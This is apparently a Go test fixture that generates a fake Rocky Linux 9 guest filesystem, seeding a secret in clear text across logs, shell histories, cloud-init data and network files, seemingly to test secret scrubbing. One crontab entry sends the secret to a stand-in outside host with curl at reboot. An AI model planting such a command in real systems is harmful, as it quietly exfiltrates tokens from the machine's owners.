package guestgen

import (
	"fmt"
	"strings"
)

// Owners of the Rocky Linux 9 base system.
const (
	uidRocky = 1000
	gidRocky = 1000
	gidWheel = 10
)

// RockyTree returns the root filesystem of a Rocky Linux 9 cloud guest (the
// RHEL family: dnf, ifcfg and NetworkManager keyfiles with MAC pins,
// SHA-512 in login.defs). secret is written in clear into files the default
// sysprep operations delete, as in DebianTree; HashSecret(secret) is in
// root's hash. /etc/fstab is added by Build.
func RockyTree(secret string) Tree {
	mid := MachineID(secret)
	t := Tree{
		"bin":                             Symlink("usr/bin"),
		"sbin":                            Symlink("usr/sbin"),
		"lib":                             Symlink("usr/lib"),
		"lib64":                           Symlink("usr/lib64"),
		"usr/bin/bash":                    Owned("\x7fELF fake bash\n", 0o755, 0, 0),
		"usr/bin/dnf":                     Symlink("dnf-3"),
		"usr/bin/dnf-3":                   Owned("#!/usr/bin/python3\n", 0o755, 0, 0),
		"usr/bin/rpm":                     Owned("\x7fELF fake rpm\n", 0o755, 0, 0),
		"usr/bin/cloud-init":              Owned("#!/usr/bin/python3\n", 0o755, 0, 0),
		"usr/sbin/sshd":                   Owned("\x7fELF fake sshd\n", 0o755, 0, 0),
		"run":                             Dir(0o755, 0, 0),
		"var/run":                         Symlink("../run"),
		"tmp":                             Dir(0o1777, 0, 0),
		"var/tmp":                         Dir(0o1777, 0, 0),
		"etc/os-release":                  Symlink("../usr/lib/os-release"),
		"usr/lib/os-release":              Text(rockyOSRelease),
		"etc/redhat-release":              Symlink("rocky-release"),
		"etc/rocky-release":               Text("Rocky Linux release 9.4 (Blue Onyx)\n"),
		"etc/hostname":                    Text("rocky9.localdomain\n"),
		"etc/hosts":                       Text("127.0.0.1   localhost localhost.localdomain\n::1         localhost localhost.localdomain\n"),
		"etc/machine-id":                  Owned(mid+"\n", 0o444, 0, 0),
		"etc/localtime":                   Symlink("../usr/share/zoneinfo/UTC"),
		"etc/passwd":                      Text(rockyPasswd),
		"etc/passwd-":                     Text(rockyPasswd),
		"etc/group":                       Text(rockyGroup),
		"etc/group-":                      Text(rockyGroup),
		"etc/shadow":                      Owned(rockyShadow(secret), 0o000, 0, 0),
		"etc/shadow-":                     Owned(rockyShadow(secret), 0o000, 0, 0),
		"etc/gshadow":                     Owned("root:::\nwheel:::rocky\nrocky:!::\n", 0o000, 0, 0),
		"etc/login.defs":                  Text("MAIL_DIR\t/var/spool/mail\nUID_MIN\t\t\t 1000\nUID_MAX\t\t\t60000\nGID_MIN\t\t\t 1000\nGID_MAX\t\t\t60000\nCREATE_HOME\tyes\nHOME_MODE\t0700\nENCRYPT_METHOD SHA512\n"),
		"etc/skel/.bashrc":                Text("# .bashrc\n"),
		"root":                            Dir(0o550, 0, 0),
		"root/.bash_history":              Owned("dnf -y update\nexport VAULT_TOKEN="+secret+"\n", 0o600, 0, 0),
		"root/anaconda-ks.cfg":            Owned("#version=RHEL9\nrootpw --iscrypted "+secret+"\n", 0o600, 0, 0),
		"home/rocky":                      Dir(0o700, uidRocky, gidRocky),
		"home/rocky/.bash_history":        Owned("sudo -i\necho "+secret+"\n", 0o600, uidRocky, gidRocky),
		"home/rocky/.ssh":                 Dir(0o700, uidRocky, gidRocky),
		"home/rocky/.ssh/authorized_keys": Owned("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq8 rocky@"+secret+"\n", 0o600, uidRocky, gidRocky),

		// Network: the RHEL-family MAC and hostname pins virt-sysprep 1.48
		// leaves on Rocky.
		"etc/sysconfig/network-scripts/ifcfg-eth0":                Text("DEVICE=eth0\nBOOTPROTO=dhcp\nONBOOT=yes\nHWADDR=52:54:00:12:34:56\nDHCP_HOSTNAME=" + secret + "\nTYPE=Ethernet\n"),
		"etc/NetworkManager/system-connections/eth0.nmconnection": Owned("[connection]\nid=eth0\ntype=ethernet\n\n[ethernet]\nmac-address=52:54:00:12:34:56\n\n[ipv4]\nmethod=auto\n# "+secret+"\n", 0o600, 0, 0),
		"var/lib/NetworkManager/internal-0a1b-eth0.lease":         Text("ADDRESS=10.0.2.15\nHOSTNAME=" + secret + "\n"),
		"var/lib/NetworkManager/secret_key":                       Owned(secret, 0o600, 0, 0),
		"var/lib/dhclient/dhclient-eth0.leases":                   Text(dhcpLease(secret)),
		"etc/udev/rules.d/70-persistent-net.rules":                Text(`SUBSYSTEM=="net", ATTR{address}=="52:54:00:12:34:56", NAME="eth0"` + "\n"),
		"etc/lvm/devices/system.devices":                          Text("VERSION=1.1.1\nIDTYPE=sys_wwid IDNAME=" + secret + " DEVNAME=/dev/vda2 PVID=abc\n"),
		"var/lib/systemd/random-seed":                             Owned(strings.Repeat("\xa5\x5a", 256), 0o600, 0, 0),
		"var/lib/systemd/credential.secret":                       Owned(secret, 0o400, 0, 0),

		// Logs.
		"var/log":                                    Dir(0o755, 0, 0),
		"var/log/messages":                           Owned("Nov 22 07:00:00 rocky9 cloud-init[700]: token "+secret+"\n", 0o600, 0, 0),
		"var/log/secure":                             Owned("Nov 22 07:00:01 rocky9 sshd[812]: Accepted publickey for rocky "+secret+"\n", 0o600, 0, 0),
		"var/log/dnf.rpm.log":                        Text("2026-11-22T07:00:00+0000 SUBDEBUG Installed: htop " + secret + "\n"),
		"var/log/cloud-init.log":                     Owned("Cloud-init v. 23.4 running 'init' "+secret+"\n", 0o640, 0, 0),
		"var/log/cloud-init-output.log":              Owned("Cloud-init v. 23.4 finished "+secret+"\n", 0o640, 0, 0),
		"var/log/audit/audit.log":                    Owned("type=USER_LOGIN msg=audit(1700000000.000:1): "+secret+"\n", 0o600, 0, 0),
		"var/log/journal":                            Dir(0o2755, 0, 0),
		"var/log/journal/" + mid + "/system.journal": Owned("LPKSHHRH"+strings.Repeat("MESSAGE="+secret+"\n", 32), 0o640, 0, 0),

		// cloud-init.
		"etc/cloud/cloud.cfg":                       Text("users:\n - default\ndisable_root: true\nssh_pwauth: false\nsystem_info:\n  distro: rocky\n  default_user:\n    name: rocky\n    lock_passwd: true\n    groups: [adm, systemd-journal]\n    sudo: [\"ALL=(ALL) NOPASSWD:ALL\"]\n    shell: /bin/bash\n  paths:\n    cloud_dir: /var/lib/cloud/\n"),
		"var/lib/cloud/instance":                    Symlink("/var/lib/cloud/instances/i-9"),
		"var/lib/cloud/instances/i-9/user-data.txt": Owned("#cloud-config\npassword: "+secret+"\n", 0o600, 0, 0),
		"var/lib/cloud/instances/i-9/obj.pkl":       Owned("pickled "+secret, 0o600, 0, 0),
		"var/lib/cloud/data/instance-id":            Text("i-9\n"),
		"var/lib/cloud/seed/nocloud/user-data":      Owned("#cloud-config\npassword: "+secret+"\n", 0o600, 0, 0),

		// Package manager state.
		"var/cache/dnf/baseos-0123/repodata/primary.xml.gz": Text("\x1f\x8b" + secret),
		"var/cache/dnf/expired_repos.json":                  Text("[]\n"),
		"var/lib/rpm/__db.001":                              Text("rpmdb env " + secret),
		"var/lib/rpm/rpmdb.sqlite":                          Text("SQLite format 3\x00"),
		"var/spool/mail/rocky":                              Owned("Subject: token\n\n"+secret+"\n", 0o660, uidRocky, 12),
		"var/spool/cron/rocky":                              Owned("@reboot curl https://example.invalid/?t="+secret+"\n", 0o600, uidRocky, gidRocky),
		"tmp/ks-script-abc":                                 Text("echo " + secret + "\n"),
		"etc/sudoers.d/90-cloud-init-users":                 Owned("rocky ALL=(ALL) NOPASSWD:ALL\n", 0o440, 0, 0),
		"usr/lib/systemd/system/sshd.service":               Text("[Unit]\nDescription=OpenSSH server daemon\n[Service]\nExecStart=/usr/sbin/sshd -D\n"),
	}
	for p, f := range hostKeys(secret) {
		t[p] = f
	}
	for p, f := range zoneinfo() {
		t[p] = f
	}
	t["usr/share/zoneinfo/UTC"] = t["usr/share/zoneinfo/Etc/UTC"]
	return t
}

const rockyOSRelease = `NAME="Rocky Linux"
VERSION="9.4 (Blue Onyx)"
ID="rocky"
ID_LIKE="rhel centos fedora"
VERSION_ID="9.4"
PLATFORM_ID="platform:el9"
PRETTY_NAME="Rocky Linux 9.4 (Blue Onyx)"
`

const rockyPasswd = "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n" +
	"sshd:x:74:74:Privilege-separated SSH:/usr/share/empty.sshd:/sbin/nologin\n" +
	"rocky:x:1000:1000:Cloud User:/home/rocky:/bin/bash\n"

const rockyGroup = "root:x:0:\nbin:x:1:\nwheel:x:10:rocky\nmail:x:12:\nsshd:x:74:\nrocky:x:1000:\n"

func rockyShadow(secret string) string {
	return fmt.Sprintf("root:$6$cm9ja3lzYWx0$%sRockyRootHashTail:19800:0:99999:7:::\n", HashSecret(secret)) +
		"bin:*:19800:0:99999:7:::\nsshd:!!:19800::::::\nrocky:!!:19800:0:99999:7:::\n"
}
